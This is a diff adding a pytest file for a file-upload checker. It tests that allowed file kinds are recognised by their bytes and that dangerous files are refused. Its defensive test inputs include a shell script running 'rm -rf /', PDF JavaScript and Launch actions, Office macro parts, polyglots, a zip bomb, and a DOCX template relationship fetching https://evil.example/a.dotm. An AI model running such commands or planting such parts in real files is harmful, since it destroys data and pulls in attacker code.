@@ -1,0 +1,146 @@
+"""Files of strangers: a closed list by their bytes, and what is made to hurt."""
+
+import struct
+import zipfile
+from io import BytesIO
+
+import pytest
+
+from arasha.engines.documents import fill
+from arasha.papers.letters import letter
+from arasha.papers.tables import table_xlsx
+from arasha.papers.uploads import MEDIA_TYPES, UploadRefusedError, kind_of
+from tests.engines.documents.forms import FORM, values
+from tests.papers.tables.workbooks import with_part
+
+PDF = b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\n%%EOF\n"
+PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(17) + b"\x00\x00\x00\x00IEND\xaeB`\x82"
+JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF" + bytes(50) + b"\xff\xd9"
+TYPES = "[Content_Types].xml"
+
+
+def zipped(*members: tuple[str, bytes]) -> bytes:
+    target = BytesIO()
+    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, content in members:
+            archive.writestr(name, content)
+    return target.getvalue()
+
+
+DOCX = letter(fill(FORM, "kk", values()))
+XLSX = table_xlsx(["a", "b"], [[1, 2]], title="x")
+ODT = zipped(("mimetype", MEDIA_TYPES["odt"].encode()), ("content.xml", b"<x/>"))
+GOOD = {
+    "pdf": PDF,
+    "png": PNG,
+    "jpeg": JPEG,
+    "tiff": b"II*\x00" + bytes(20),
+    "docx": DOCX,
+    "xlsx": XLSX,
+    "odt": ODT,
+    "txt": "Әлия айтты: ұрды.\r\n".encode(),
+    "mp3": b"ID3\x03\x00" + bytes(30),
+    "opus": b"OggS\x00\x02" + bytes(22) + b"OpusHead" + bytes(20),
+    "wav": b"RIFF" + struct.pack("<I", 36) + b"WAVEfmt " + bytes(20),
+    "mp4": b"\x00\x00\x00\x18ftypisom" + bytes(20),
+}
+
+
+def kind(content: bytes, most_bytes: int = 10_000_000) -> str:
+    return kind_of(BytesIO(content), most_bytes=most_bytes)
+
+
+def refusal(content: bytes, most_bytes: int = 10_000_000) -> str:
+    with pytest.raises(UploadRefusedError) as refused:
+        kind(content, most_bytes)
+    return refused.value.code
+
+
+@pytest.mark.parametrize("expected", GOOD)
+def test_what_is_on_the_list_is_known_by_its_bytes(expected: str) -> None:
+    assert kind(GOOD[expected]) == expected
+
+
+def test_every_kind_of_the_list_was_tried() -> None:
+    assert GOOD.keys() == MEDIA_TYPES.keys()
+
+
+@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-16", "cp1251"])
+def test_words_in_the_encodings_of_here_are_a_text(encoding: str) -> None:
+    assert kind("Заявление\n".encode(encoding)) == "txt"
+
+
+@pytest.mark.parametrize(
+    ("content", "code"),
+    [
+        (b"", "empty"),
+        (b"MZ\x90\x00" + bytes(60), "executable"),
+        (b"\x7fELF" + bytes(60), "executable"),
+        (b"#!/bin/sh\nrm -rf /\n", "executable"),
+        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "old_or_locked"),
+        (b"GIF89a" + bytes(60), "unknown"),
+        (b"  <!DOCTYPE html><script>", "unknown"),
+        (b"<svg onload=x>", "unknown"),
+        (b"\x00\x00\x00\x18ftypheic" + bytes(20), "unknown"),
+        (bytes(100), "unknown"),
+        (zipped(("a.txt", b"a")), "unknown"),
+        (PDF[:-7], "damaged"),
+        (PNG[:-4], "damaged"),
+        (DOCX[:-30], "damaged"),
+        (PDF.replace(b"<<>>", b"<</S /JavaScript>>"), "macros"),
+        (PDF.replace(b"<<>>", b"<</S /Launch>>"), "macros"),
+        (PNG + zipped(("a.class", b"x")), "two_in_one"),
+        (JPEG + DOCX, "two_in_one"),
+        (JPEG[:20] + PDF, "two_in_one"),
+        (DOCX + b"<html>", "two_in_one"),
+        (with_part(DOCX, "word/vbaProject.bin", lambda _: b"x"), "macros"),
+        (with_part(DOCX, "word/embeddings/oleObject1.bin", lambda _: b"x"), "macros"),
+        (
+            with_part(DOCX, TYPES, lambda x: x.replace(b"document.main", b"macroEnabled.main")),
+            "macros",
+        ),
+        (with_part(ODT, "Basic/Standard/x.xml", lambda _: b"<x/>"), "macros"),
+        (with_part(DOCX, "word/a.xml", lambda _: b"<!DOCTYPE x><x/>"), "damaged"),
+        (with_part(DOCX, "word/a.xml", lambda _: b"0" * 60_000_000), "bomb"),
+    ],
+    ids=range(26),
+)
+def test_what_is_dangerous_or_broken_is_refused_by_a_code(content: bytes, code: str) -> None:
+    assert refusal(content, 200_000_000) == code
+
+
+def test_a_template_that_would_be_fetched_is_refused() -> None:
+    rels = (
+        b'<Relationships><Relationship Id="r1" Type="http://x/relationships/attachedTemplate"'
+        b' Target="https://evil.example/a.dotm" TargetMode="External"/></Relationships>'
+    )
+
+    assert refusal(with_part(DOCX, "word/_rels/settings.xml.rels", lambda _: rels)) == "remote"
+
+
+def test_a_link_in_a_letter_is_no_danger() -> None:
+    rels = b'<Relationships><Relationship Type="http://x/hyperlink" Target="https://a.example" TargetMode="External"/></Relationships>'
+
+    assert kind(with_part(DOCX, "word/_rels/footer9.xml.rels", lambda _: rels)) == "docx"
+
+
+def test_an_archive_that_begins_late_is_two_in_one() -> None:
+    assert refusal(b"PK\x03\x04" + bytes(30) + XLSX) == "two_in_one"
+
+
+def test_a_part_named_twice_is_two_in_one() -> None:
+    content = with_part(DOCX, "WORD/document.xml", lambda _: b"<x/>")
+
+    assert refusal(content) == "two_in_one"
+
+
+def test_a_file_over_the_limit_is_refused_before_it_is_read() -> None:
+    assert refusal(PDF, most_bytes=10) == "too_large"
+
+
+def test_a_letter_with_one_spoilt_byte_is_damaged() -> None:
+    with zipfile.ZipFile(BytesIO(DOCX)) as archive:
+        part = archive.getinfo("word/document.xml")
+    at = part.header_offset + 30 + len(part.filename) + part.compress_size // 2
+
+    assert refusal(DOCX[:at] + bytes([DOCX[at] ^ 1]) + DOCX[at + 1 :]) == "damaged"
